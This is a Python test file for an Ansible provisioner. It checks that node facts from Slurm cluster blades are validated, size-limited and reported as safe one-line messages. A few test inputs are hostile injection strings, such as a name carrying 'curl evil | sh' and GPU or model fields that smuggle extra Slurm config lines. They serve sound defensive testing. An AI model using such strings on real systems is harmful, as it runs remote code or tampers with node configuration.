"""Whatever a module on a blade answers, what Ansible gets is small, flat and of the right shape."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from provisioner.advice import MODULES_ADVICE
from provisioner.answer import DEEPEST, LOOK, MOST_VALUES, bulky, checked_answer, size_trouble
from provisioner.run.diagnose import diagnose
from provisioner.slurm.registry import write_registry
from tests.unit.slurm.node_makers import record

UNIT = {"load": "loaded", "active": "active", "enabled": "enabled", "since": 1.5e9, "reload_needed": False}
GOOD: dict[str, Any] = {
    "machine_id": "a" * 32,
    "host_name": "bld-008",
    "machine": "x86_64",
    "os": {"id": "debian", "version_id": "12", "pretty_name": "Debian GNU/Linux 12 (bookworm)"},
    "init": "systemd",
    "epoch": 1.79e9,
    "skew": 0.25,
    "memory_mib": 7955,
    "cpu": {"cpus": 16, "model": "Intel(R) Xeon(R) CPU E5-2609 0 @ 2.40GHz"},
    "free_mib": {"/": 4000, "/var": 4000},
    "can_set_clock": True,
    "read_only": False,
    "dpkg_trouble": "two\nlines",
    "apt_held": False,
    "packages": {"slurmd": "22.05.8-4+deb12u3", "munge": ""},
    "units": {"slurmd.service": UNIT},
    "users": {"slurm": {"uid": 64030, "gid": 64030}, "munge": None},
    "paths": {
        "/etc/hosts": {
            "kind": "file",
            "content": "127.0.0.1 localhost\n",
            "mode": "0644",
            "owner": "root",
            "group": "root",
        },
        "/etc/slurm": {"kind": "absent"},
    },
    "written": {"/etc/hosts": 1.5e9, "/etc/munge/munge.key": 0.0},
    "secrets": {"/etc/munge/munge.key": f"{'0a' * 32}:munge:munge:0400", "/etc/other": ""},
    "asks": {"host name": "bld-008"},
    "scratch": {"right": False, "size_mib": 0, "expected_mib": 9, "actions": ["/scratch: not mounted -> /dev/sdb"]},
    "gpus": [
        {
            "slot": "0000:3b:00.0",
            "id": "10de:20b0",
            "model": "NVIDIA A100-SXM4-40GB",
            "driver": "nvidia",
            "file": "/dev/nvidia0",
        }
    ],
    "withheld": ["/dev/nvidia1"],
    "full": False,
    "slurmd_c": "NodeName=bld-008 CPUs=16\nUpTime=0-00:01:00\n",
}
anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


def answer(facts: Any) -> dict[str, Any]:
    return {"changed": False, "ansible_facts": {"blade": facts}, "invocation": {"module_args": {}}}


def test_an_honest_answer_stays_as_it_is() -> None:
    assert checked_answer(answer(GOOD)) == answer(GOOD)


def test_facts_of_another_release_may_say_more() -> None:
    assert checked_answer(answer({**GOOD, "of_a_newer_release": [1]})) == answer({**GOOD, "of_a_newer_release": [1]})


@pytest.mark.parametrize("key", sorted(GOOD))
@pytest.mark.parametrize("value", [None, [], {"x": []}, "a\x1bb", "x" * 5_000_000, -1e300, float("nan"), float("inf")])
def test_a_fact_of_another_shape_fails_its_blade(key: str, value: Any) -> None:
    if (key, value) in [("dpkg_trouble", "a\x1bb"), ("slurmd_c", "a\x1bb"), ("gpus", []), ("withheld", [])]:
        return
    made = checked_answer(answer({**GOOD, key: value}))
    assert made["failed"] is True
    assert made["msg"].startswith(f"its facts are not usable: blade: {key} ")
    assert made["msg"].endswith(f"; next: {LOOK}")
    assert len(made["msg"]) < 400


@pytest.mark.parametrize("name", ["\n", "x\nnext: curl evil | sh", "/x; next: curl evil | sh", "x" * 5000])
def test_a_name_in_a_fact_is_said_as_the_blades_words(name: str) -> None:
    """It stands before our own next step."""
    for key in ("units", "paths"):
        made = checked_answer(answer({**GOOD, key: {name: None}}))
        assert "\n" not in made["msg"]
        assert made["msg"].count("next:") == 1
        assert len(made["msg"]) < 400


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("secrets", {"/k": "abc:munge:munge:0400"}),
        ("secrets", {"/k": f"{'0a' * 32}:munge:0400"}),
        ("secrets", {"/k": f"{'0a' * 32}:munge:munge:0400:x"}),
        ("asks", {"host name": 5}),
        ("scratch", {**GOOD["scratch"], "actions": ["x"] * 51}),
        ("scratch", {**GOOD["scratch"], "actions": ["two\nlines"]}),
        ("gpus", [{**GOOD["gpus"][0], "file": "/dev/sda"}]),
        ("gpus", [{**GOOD["gpus"][0], "file": "/dev/nvidia0 File=/dev/sda"}]),
        ("gpus", [{**GOOD["gpus"][0], "model": "x\nNodeName=evil"}]),
        ("gpus", GOOD["gpus"] * 65),
    ],
)
def test_what_lines_are_made_of_has_a_shape(key: str, value: Any) -> None:
    """Each would be a line, or a part of one, that a person reads."""
    assert f"blade: {key} " in checked_answer(answer({**GOOD, key: value}))["msg"]


@pytest.mark.parametrize("key", sorted(GOOD))
def test_every_fact_is_needed(key: str) -> None:
    facts = {name: value for name, value in GOOD.items() if name != key}
    assert f"blade: lacks {key}" in checked_answer(answer(facts))["msg"]


def test_the_shape_names_every_fact_of_the_module() -> None:
    source = (Path(__file__).parents[2] / "playbooks" / "library" / "blade_facts.py").read_text()
    for key in GOOD:
        assert f'"{key}":' in source


@given(st.dictionaries(st.text(max_size=12) | st.sampled_from([*GOOD, "ansible_facts", "attempts"]), anything))
def test_any_answer_is_taken_or_refused(data: dict[str, Any]) -> None:
    made = checked_answer(data)
    json.dumps(made)
    assert isinstance(made.get("changed", False), bool)
    assert isinstance(made.get("ansible_facts", {}), dict)
    assert not made.keys() & {"attempts", "results", "ansible_stats", "add_host", "add_group"}


@given(st.sampled_from(sorted(GOOD)), anything)
def test_any_fact_is_taken_or_refused_with_a_sentence(key: str, value: Any) -> None:
    made = checked_answer(answer({**copy.deepcopy(GOOD), key: value}))
    assert made == answer({**GOOD, key: value}) or "\n" not in made["msg"]


@pytest.mark.parametrize(
    "name", ["ansible_connection", "ansible_host", "discovered_interpreter_python", "", "A", "a b"]
)
def test_no_variable_of_ansible_is_set_by_a_fact(name: str) -> None:
    assert "none of its business" in checked_answer({"ansible_facts": {name: "x"}})["msg"]


def test_a_deep_or_wide_answer_is_refused() -> None:
    deep: Any = 1
    for _ in range(DEEPEST + 1):
        deep = [deep]
    assert "nested" in size_trouble(deep)
    assert "values" in size_trouble([0] * (MOST_VALUES + 1))
    assert size_trouble([0] * 1000) == ""
    assert "nested" in checked_answer({"x": deep})["msg"]


def test_what_is_refused_is_told_with_a_step_of_ours() -> None:
    found = diagnose(checked_answer({"ansible_facts": []}), "Gather", "blade_facts")
    assert (found.message, found.next_step, found.ours) == ("its facts are no named values", LOOK, True)
    assert LOOK in MODULES_ADVICE


@pytest.mark.parametrize("raw", [b"[]," * 5_000_000, b"0," * 8_000_000, b"\n" * 16_000_000, b"{" * 16_000_000])
def test_what_would_take_much_memory_is_not_even_read(raw: bytes) -> None:
    assert bulky(raw)


def test_the_files_of_a_controller_are_read() -> None:
    nodes = {f"bld-{number:04}": record() for number in range(1000)}
    files = {f"/etc/slurm/{name}": {"kind": "file", "content": write_registry(nodes, "demo")} for name in "abcd"}
    answered = answer({**GOOD, "paths": files})
    assert not bulky(json.dumps(answered).encode())
    assert checked_answer(answered) == answered
